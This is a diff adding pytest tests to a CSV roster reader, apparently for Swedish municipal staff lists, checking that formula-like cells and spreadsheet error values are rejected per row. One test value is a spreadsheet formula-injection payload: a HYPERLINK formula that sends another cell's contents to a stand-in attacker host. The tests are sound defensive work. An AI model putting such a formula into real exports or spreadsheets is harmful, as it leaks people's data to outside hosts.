@@ -324,3 +324,38 @@ def test_any_cells_give_rows_or_problems_never_both_never_an_exception(
         assert row.email == row.email.lower() and set(row.target_groups) <= set(TARGET_GROUPS)
     emails = [r.email for r in roster.rows]
     assert len(emails) == len(set(emails))
+
+
+# --- formulas and spreadsheet errors are no values --------------------------------------------------------------
+
+@pytest.mark.parametrize(("column", "value", "message"), [
+    ("Kommun", '=HYPERLINK("http://evil.example/?d="&A2,"Falu kommun")', "formula"),
+    ("Förnamn", "=1+1", "formula"),
+    ("Efternamn", "+SUM(1,2)", "formula"),
+    ("Enhet", "-2+3", "formula"),
+    ("Enhet", "@SUM(A1)", "formula"),
+    ("E-post", "=anna@falun.se", "formula"),
+    ("HSA-id", "=A1", "formula"),
+    ("Kommun", "#REF!", "spreadsheet error"),
+    ("Enhet", "#N/A", "spreadsheet error"),
+    ("Efternamn", "#DIV/0!", "spreadsheet error"),
+    ("Målgrupp", "#SAKNAS!", "spreadsheet error"),
+    ("Län", "#VÄRDEFEL!", "spreadsheet error"),
+])
+def test_formulas_and_spreadsheet_errors_are_refused_with_their_row(
+        write_csv: WriteCsv, column: str, value: str, message: str) -> None:
+    roster = read_roster(write_csv([HEADER, person(1), person(2, **{column: value}), person(3)]),
+                         target_groups=TARGET_GROUPS, today=TODAY)
+    assert [(p.row, p.column, p.value) for p in roster.problems] == [(3, column, value)], \
+        [str(p) for p in roster.problems]
+    assert message in roster.problems[0].message
+    assert [r.row for r in roster.rows] == [2, 4]
+
+
+@pytest.mark.parametrize(("column", "value"), [
+    ("Enhet", "-"),                      # a dash for "no unit" is text, not a formula
+    ("Enhet", "- avdelning 2"),
+    ("Kommun", "Region Dalarna #2"),
+])
+def test_dashes_and_hashes_that_are_plain_text_are_fine(write_csv: WriteCsv, column: str, value: str) -> None:
+    assert problems_of(write_csv([HEADER, person(1, **{column: value})])) == []
